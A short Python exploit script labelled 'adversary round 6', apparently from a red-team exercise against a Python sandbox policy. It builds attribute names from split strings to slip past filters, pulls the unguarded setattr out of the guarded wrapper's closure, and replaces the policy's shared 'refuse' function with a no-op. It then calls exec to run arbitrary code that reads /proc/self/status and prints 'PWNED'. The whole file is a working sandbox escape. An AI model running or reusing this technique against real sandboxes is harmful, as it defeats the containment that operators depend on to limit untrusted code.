# adversary round 6: attrgetter class -> guarded setattr's __closure__ gives the real setattr -> overwrite the policy's shared 'refuse_' cell with a no-op -> exec an arbitrary string, open /proc/self/status
import operator, dataclasses
AG = type(operator.attrgetter('real'))
CL = AG('__clo' + 'sure__')
CC = AG('cell_con' + 'tents')
G = AG('__glo' + 'bals__')(dataclasses.fields)
B = G['built' + 'ins']
gset = AG('set' + 'attr')(B)          # the guarded setattr (a closure of the policy)
real_set = [CC(c) for c in CL(gset) if type(CC(c)).__name__ == 'builtin_function_or_method' and CC(c).__name__ == 'setattr'][0]
refuse_cell = [c for c in CL(gset) if type(CC(c)).__name__ == 'function' and CC(c).__name__ == 'refuse'][0]
def nothing(what):
    return None
real_set(refuse_cell, 'cell_con' + 'tents', nothing)
print("refuse cell now:", CC(refuse_cell).__name__)
ex = AG('ex' + 'ec')(B)
ex("import os, sys, subprocess\nprint('exec ran; pid', os.getpid(), sys.version.split()[0])\nprint(open('/proc/self/status').read().splitlines()[:3])\nprint('PWN' + 'ED')")
